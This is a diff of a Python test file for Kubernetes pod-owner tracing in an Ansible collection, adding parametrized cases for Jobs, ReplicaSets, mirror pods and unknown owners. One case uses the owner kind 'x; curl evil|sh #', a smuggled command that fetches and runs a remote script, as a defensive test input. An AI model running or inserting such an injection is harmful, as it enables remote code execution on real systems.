@@ -15,7 +15,7 @@ from ansible_collections.enbuild.eks.plugins.module_utils._kubernetes.pods impor
     bare_containers,
     created_by,
     lives,
-    parents_of,
+    metadata_of,
     plain_template,
     pod_of,
     rendered_templates,
@@ -113,11 +113,11 @@ def test_pods_are_traced_through_their_replica_set() -> None:
         pod("c", ("ReplicaSet", "loose")),
         pod("d"),
     ]
-    parents = parents_of(sets)
-    found = {p.name: p for p in (pod_of(each, parents) for each in pods)}
+    there = metadata_of({"ReplicaSet": sets})
+    found = {p.name: p for p in (pod_of(each, there) for each in pods)}
     assert found["a"].owner == Owner("Deployment", "shop", "orders")
     assert found["b"].owner == Owner("StatefulSet", "shop", "db")
-    assert found["c"].owner == Owner("ReplicaSet", "shop", "loose")
+    assert found["c"].owner == Owner("Pod", "shop", "c"), "no such ReplicaSet is there"
     assert found["d"].owner == Owner("Pod", "shop", "d")
     assert [found[name].injected for name in "abcd"] == [True, False, True, True]
 
@@ -128,6 +128,47 @@ def test_leaving_and_finished_pods_are_left_out() -> None:
     done["status"]["phase"] = "Succeeded"
     failed["status"]["phase"] = "Failed"
     assert [lives(each) for each in (leaving, done, failed, pod("d"))] == [False, False, False, True]
+
+
+def owned(kind: str, name: str = "night", uid: str = "j", **annotations: str) -> t.Any:
+    made = pod("p", (kind, name))
+    made["metadata"]["ownerReferences"][0]["uid"] = uid
+    made["metadata"]["annotations"] = annotations
+    return made
+
+
+LISTED: dict[str, list[t.Any]] = {
+    "Job": [{"metadata": {"namespace": "shop", "name": "night", "uid": "j"}}],
+    "ReplicaSet": [
+        {
+            "metadata": {
+                "namespace": "shop",
+                "name": "alone",
+                "uid": "a",
+                "ownerReferences": [{"kind": "Rollout", "name": "x", "uid": "x", "controller": True}],
+            }
+        }
+    ],
+}
+ITSELF = Owner("Pod", "shop", "p")
+
+
+@pytest.mark.parametrize(
+    ("made", "owner"),
+    [
+        (owned("Job"), Owner("Job", "shop", "night")),
+        (owned("Job", uid="other"), ITSELF),
+        (owned("Job", "gone"), ITSELF),
+        (owned("StatefulSet", "not-listed"), Owner("StatefulSet", "shop", "not-listed")),
+        (owned("ReplicaSet", "alone", "a"), Owner("ReplicaSet", "shop", "alone")),
+        (owned("Node", "node-1"), ITSELF),
+        (owned("Node", "node-1", **{"kubernetes.io/config.mirror": "x"}), Owner("Node", "shop", "")),
+        (owned("Rollout"), ITSELF),
+        (owned("x; curl evil|sh #"), ITSELF),
+    ],
+)
+def test_an_owner_counts_where_it_is_there_and_owns_the_pod(made: t.Any, owner: Owner) -> None:
+    assert pod_of(made, metadata_of(LISTED)).owner == owner
 
 
 @pytest.mark.parametrize(
